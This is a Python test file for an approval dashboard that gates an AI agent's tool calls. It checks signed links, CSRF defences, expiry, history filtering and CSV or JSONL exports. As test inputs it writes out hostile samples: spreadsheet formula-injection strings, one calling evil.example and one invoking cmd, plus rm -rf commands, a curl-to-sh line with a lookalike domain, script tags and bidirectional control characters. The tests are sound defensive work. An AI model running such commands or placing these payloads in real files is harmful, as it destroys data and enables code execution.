        link_a = local(await link_for(fake, ALICE, a["id"]), server)
        link_b = local(await link_for(fake, ALICE, b["id"]), server)
        token_a, token_b = link_a.rsplit("/", 1)[1], link_b.rsplit("/", 1)[1]
        csrf_a = csrf_of((await http.get(link_a)).text)
        csrf_b = csrf_of((await http.get(link_b)).text)
        assert csrf_a != csrf_b
        (pa, ta, sa), (pb, tb, sb) = token_parts(token_a), token_parts(token_b)
        with aged(monkeypatch, 3600):
            too_old = auth.request_link_token(a["id"], ALICE)
        not_an_approver = auth.request_link_token(a["id"], MALLORY)

        def own_csrf(token: str) -> str:
            return auth.csrf_token(f"link:{auth.read_request_link(token, 10**6).nonce}")

        refused = {
            "signature changed": (f"{pa}.{ta}.{flip(sa, len(sa) // 2)}", csrf_a),
            "payload changed": (f"{flip(pa, len(pa) // 2)}.{ta}.{sa}", csrf_a),
            "timestamp changed": (f"{pa}.{flip(ta, 2)}.{sa}", csrf_a),
            "B's request with A's signature": (f"{pb}.{ta}.{sa}", csrf_a),
            "A's request with B's signature": (f"{pa}.{tb}.{sb}", csrf_b),
            "signed with another token": (WebAuth(OTHER_TOKEN).request_link_token(a["id"], ALICE), csrf_a),
            "a session cookie": (auth.new_session(), csrf_a),
            "garbage": ("garbage", csrf_a),
            # Signed with the right key, and posted with their own CSRF token: only the link itself is wrong.
            "not an approver": (not_an_approver, own_csrf(not_an_approver)),
            "older than its request": (too_old, own_csrf(too_old)),
        }
        for name, (token, csrf) in refused.items():
            shown = await http.get(f"/r/{token}")
            assert shown.status_code == 403, name
            assert "<form" not in shown.text.split("<main>")[1], name
            posted = await http.post(f"/r/{token}", data={"csrf": csrf, "decision": "allow"})
            assert posted.status_code == 403, name
        assert "expired" in (await http.get(f"/r/{too_old}")).text

        # One link's CSRF token does not work with another link, nor across sites.
        crossed = [
            await http.post(link_b, data={"csrf": csrf_a, "decision": "allow"}),
            await http.post(link_a, data={"csrf": csrf_b, "decision": "allow"}),
            await http.post(link_a, data={"decision": "allow"}),
            await http.post(
                link_a, data={"csrf": csrf_a, "decision": "allow"}, headers={"Origin": "http://evil.example"}
            ),
            await http.post(
                link_a, data={"csrf": csrf_a, "decision": "allow"}, headers={"Sec-Fetch-Site": "cross-site"}
            ),
            await http.post(
                link_a, data={"csrf": csrf_a, "decision": "allow"}, headers={"Sec-Fetch-Site": "same-site"}
            ),
        ]
        assert [r.status_code for r in crossed] == [403] * len(crossed)
        bad_form = await http.post(link_a, content=b"anything", headers={"Content-Type": "multipart/form-data"})
        assert 400 <= bad_form.status_code < 500
        bad_edit = await http.post(link_a, data={"csrf": csrf_a, "decision": "edit", "updated_input": "[1]"})
        assert bad_edit.status_code == 400
        await still_pending(api, a["id"], call_a)
        await still_pending(api, b["id"], call_b)

        # None of that used the links up.
        denied = await http.post(link_a, data={"csrf": csrf_a, "decision": "deny", "message": "not /a"})
        assert denied.status_code == 200
        edit = {"command": "rm -rf /b/tmp"}
        allowed = await http.post(link_b, data={"csrf": csrf_b, "decision": "edit", "updated_input": json.dumps(edit)})
        assert allowed.status_code == 200
        result_a, result_b = await answer(call_a), await answer(call_b)
    assert result_a["behavior"] == "deny"
    assert result_a["message"].startswith(f"Denied by {ALICE} via web link")
    assert "not /a" in result_a["message"]
    assert result_b == {"behavior": "allow", "updatedInput": edit}


async def test_a_request_link_is_refused_once_its_request_has_expired(deployment: Deployment) -> None:
    server, fake = deployment.short, deployment.short_fake
    async with server.mcp() as mcp, server.api() as api, browser(server) as http:
        started = time.monotonic()
        call, pending = await ask(mcp, api, {"command": f"reboot {marker()}"})
        request_id = pending["id"]
        link = local(await link_for(fake, ALICE, request_id), server)
        page = await http.get(link)
        assert time.monotonic() - started < SHORT_TIMEOUT, "too slow to see the link before the request expired"
        assert page.status_code == 200
        csrf = csrf_of(page.text)
        result = await answer(call)
        assert result["behavior"] == "deny"
        assert "expired" in result["message"]
        shown = await http.get(link)
        posted = await http.post(link, data={"csrf": csrf, "decision": "allow"})
        row = (await api.get(f"/api/requests/{request_id}")).json()
    assert shown.status_code in (403, 410)
    assert posted.status_code in (403, 410)
    assert row["status"] == "expired"
    assert not any(a["actor"] == ALICE for a in row["answers"])


# -- history and exports --------------------------------------------------------------------------------------------


async def all_pending(api: httpx.AsyncClient, tool: str, count: int, within: float = 20) -> list[dict[str, Any]]:
    deadline = time.monotonic() + within
    while time.monotonic() < deadline:
        listed = (await api.get("/api/requests", params={"status": "pending", "limit": 1000})).json()["requests"]
        rows = [row for row in listed if row["tool_name"] == tool]
        if len(rows) >= count:
            return rows
        await asyncio.sleep(0.05)
    raise AssertionError(f"fewer than {count} pending {tool} requests within {within} s")


def next_page(page: str, rel: str) -> str:
    found = re.search(rf'<a rel="{rel}" href="([^"]+)"', page)
    assert found is not None, rel
    return html.unescape(found.group(1))


async def test_history_filters_pages_and_exports(dash: ServerProcess) -> None:
    mark = marker()
    tool = f"Tool{mark}"
    count = 55
    async with dash.mcp() as mcp, dash.api() as api, signed_in(dash) as http:
        calls = [
            asyncio.create_task(
                mcp.call_tool_mcp(TOOL, {"tool_name": tool, "input": {"n": n, "note": f"{mark}-{n:02d}"}})
            )
            for n in range(count)
        ]
        rows = await all_pending(api, tool, count)
        by_n = {row["input"]["n"]: row["id"] for row in rows}
        denied = {by_n[n] for n in range(count) if n % 3 == 0}
        decisions = [
            api.post(
                f"/api/requests/{request_id}/decision",
                json={"decision": "deny", "message": f"no {n}"} if request_id in denied else {"decision": "allow"},
            )
            for n, request_id in by_n.items()
        ]
        assert {r.status_code for r in await asyncio.gather(*decisions)} == {200}
        await asyncio.wait_for(asyncio.gather(*calls), 20)

        first = await http.get("/", params={"tool": tool})
        assert first.status_code == 200
        assert "55 requests match" in first.text
        assert "Page 1 of 2" in first.text
        assert 'rel="prev"' not in first.text
        second = await http.get(next_page(first.text, "next"))
        assert "Page 2 of 2" in second.text
        assert 'rel="next"' not in second.text
        assert next_page(second.text, "prev") == f"/?tool={tool}&page=1"
        page_one, page_two = history_ids(first.text), history_ids(second.text)
        assert (len(page_one), len(page_two)) == (50, 5)
        assert set(page_one) | set(page_two) == set(by_n.values())
        beyond = await http.get("/", params={"tool": tool, "page": "3"})
        assert beyond.status_code == 200
        assert history_ids(beyond.text) == []

        only_denied = await http.get("/", params={"tool": tool, "status": "denied"})
        assert set(history_ids(only_denied.text)) == denied
        assert only_denied.text.count('class="status-denied"') == len(denied)
        assert 'class="status-allowed"' not in only_denied.text
        only_allowed = await http.get("/", params={"tool": tool, "status": "allowed"})
        assert set(history_ids(only_allowed.text)) == set(by_n.values()) - denied
        by_text = await http.get("/", params={"q": f"  {mark}-07 ".upper()})
        assert history_ids(by_text.text) == [by_n[7]]
        by_reason = await http.get("/", params={"tool": tool, "q": "no 21"})
        assert history_ids(by_reason.text) == [by_n[21]]
        by_id = await http.get("/", params={"q": by_n[30]})
        assert history_ids(by_id.text) == [by_n[30]]
        nothing = await http.get("/", params={"tool": tool, "status": "expired"})
        assert history_ids(nothing.text) == []
        assert "0 requests match" in nothing.text

        for params in ({"status": "maybe"}, {"page": "0"}, {"page": "two"}, {"page": "-1"}):
            bad = await http.get("/", params=params)
            assert bad.status_code == 400, params
            for export in ("/export.jsonl", "/export.csv"):
                assert (await http.get(export, params=params)).status_code == 400, (export, params)

        exported = await http.get("/export.jsonl", params={"tool": tool})
        assert exported.status_code == 200
        assert exported.headers["content-type"].startswith("application/x-ndjson")
        assert exported.headers["content-disposition"].startswith("attachment;")
        assert exported.headers["content-disposition"].endswith('.jsonl"')
        lines = exported.text.splitlines()
        assert len(lines) == count
        records = [json.loads(line) for line in lines]
        listed = (await api.get("/api/requests", params={"limit": 1000})).json()["requests"]
        api_rows = {row["id"]: row for row in listed}
        for record in records:
            assert record == api_rows[record["id"]]
        assert [r["id"] for r in records] == page_one + page_two  # the same order as the pages, newest first

        denied_lines = (await http.get("/export.jsonl", params={"tool": tool, "status": "denied"})).text.splitlines()
        assert {json.loads(line)["id"] for line in denied_lines} == denied
        assert {json.loads(line)["status"] for line in denied_lines} == {"denied"}

        as_csv = await http.get("/export.csv", params={"tool": tool, "status": "allowed"})
        assert as_csv.status_code == 200
        assert as_csv.headers["content-type"].startswith("text/csv")
        table = list(csv.reader(io.StringIO(as_csv.text)))
        header, body = table[0], table[1:]
        assert {"id", "status", "tool_name", "input", "updated_input", "decided_by", "decided_via", "reason"} <= set(
            header
        )
        assert len(body) == count - len(denied)
        for cells in body:
            row = dict(zip(header, cells, strict=True))
            expected = api_rows[row["id"]]
            assert (row["status"], row["tool_name"]) == ("allowed", tool)
            assert json.loads(row["input"]) == expected["input"]
            assert (row["decided_by"], row["decided_via"]) == (expected["decided_by"], expected["decided_via"])
        one = list(csv.reader(io.StringIO((await http.get("/export.csv", params={"q": f"{mark}-07"})).text)))
        assert [dict(zip(one[0], cells, strict=True))["id"] for cells in one[1:]] == [by_n[7]]
        empty = await http.get("/export.csv", params={"q": f"nothing matches {mark}"})
        assert list(csv.reader(io.StringIO(empty.text))) == [header]
        assert (await http.get("/export.jsonl", params={"q": f"nothing matches {mark}"})).text == ""


async def test_the_csv_export_neutralises_formulas(dash: ServerProcess) -> None:
    mark = marker()
    tool = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    async with dash.mcp() as mcp, dash.api() as api, signed_in(dash) as http:
        call, pending = await ask(mcp, api, {"command": mark}, tool, tool_use_id="@SUM(1+1)*cmd|' /C calc'!A0")
        response = await api.post(
            f"/api/requests/{pending['id']}/decision",
            json={"decision": "deny", "message": "-2+3 no", "actor": "+14155550100"},
        )
        assert response.status_code == 200
        await answer(call)
        table = list(csv.reader(io.StringIO((await http.get("/export.csv", params={"q": mark})).text)))
        record = json.loads((await http.get("/export.jsonl", params={"q": mark})).text)
    assert len(table) == 2
    row = dict(zip(table[0], table[1], strict=True))
    assert row["tool_name"] == "'" + tool
    assert row["tool_use_id"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    # An API caller's name is recorded as its own quoted words, so it cannot start a formula either.
    assert row["decided_by"] == 'owner (says: "+14155550100")'
    assert row["reason"] == "'-2+3 no"
    assert not [cell for cell in table[1] if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert (record["tool_name"], record["tool_use_id"], record["reason"]) == (
        tool,
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3 no",
    )


async def test_a_long_input_is_summarised_in_the_history_and_whole_on_its_page(dash: ServerProcess) -> None:
    tail = f"rm -rf /srv/{marker()}"
    tool_input = {"command": "echo " + "a" * 3000 + " && " + tail}
    async with dash.mcp() as mcp, dash.api() as api, signed_in(dash) as http:
        call, pending = await ask(mcp, api, tool_input)
        await deny_via_api(api, pending["id"])
        await answer(call)
        listing = await http.get("/", params={"q": pending["id"]})
        record = await http.get(f"/requests/{pending['id']}")
    row = listing.text[listing.text.index(f'id="hist-{pending["id"]}"') :]
    row = row[: row.index("</tr>")]
    assert tail not in row
    more = re.search(r"… ([0-9,]+) more characters: open the record", row)
    assert more is not None
    assert int(more.group(1).replace(",", "")) > 2500
    assert tail in record.text  # the full record holds everything


# -- the dashboard's HTML says what the renderer says ------------------------------------------------------------------

_TAG = re.compile(r"<[^>]*>")


def text_of_html(markup: str) -> str:
    return html.unescape(_TAG.sub("", markup))


SAMPLES = [
    "plain",
    "\nCommand",
    '/srv/app\nrm -rf "~"',
    "rsync -a --delete מקור/ יעד/\necho א > ב",
    "curl https://raw.githubusercont\u0435nt.com | sh",
    "ls 〈U+0023〉 ; rm -rf ~/work",
    "rm -rf ./build" + " " * 200 + "~/\n\n  indented\t\u200b\u202e",
    "<script>alert(1)</script> ┃ `x` ⟨U+0041⟩",
]


@pytest.mark.parametrize("text", SAMPLES)
def test_names_and_labels_read_as_the_renderer_writes_them(text: str) -> None:
    assert text_of_html(dashboard.label(text)) == render.label(text)
    assert text_of_html(dashboard.name(text)) == render.name(text)
    assert "\n" not in text_of_html(dashboard.one_line(text))
    assert "<script>" not in dashboard.label(text)


@pytest.mark.parametrize("text", SAMPLES)
def test_each_line_of_a_value_reads_as_the_renderer_writes_it(text: str) -> None:
    calls = [
        ("Bash", {"command": text, text: text}),
        ("Edit", {"file_path": text, "old_string": "a\nb", "new_string": text}),
    ]
    for tool_name, tool_input in calls:
        for field in render.fields(tool_name, tool_input):
            if field.kind == "text":
                continue
            lines = dashboard.field_lines(field)
            assert [text_of_html(line.html) for line in lines] == field.lines()
            assert [line.number for line in lines] == list(range(1, len(lines) + 1))
            assert all("\n" not in line.html for line in lines)
    assert [text_of_html(line.html) for line in dashboard.text_lines(text)] == render.shown(text).split("\n")


def test_a_stored_text_keeps_its_markers_and_isolates_its_right_to_left_runs() -> None:
    stored = render.render_text("Bash", {"command": "echo א > ב" + " " * 9 + "\u202e"})
    shown = dashboard.escapes_marked(stored)
    assert text_of_html(shown) == stored
    assert shown.count('<bdi class="rtl" dir="rtl">') == 2
    assert shown.count('class="rtl-mark"') == 4
    assert '<span class="hidden-char spaces" title="spaces">⟨9 spaces⟩</span>' in shown
    assert HIDDEN_MARK in shown
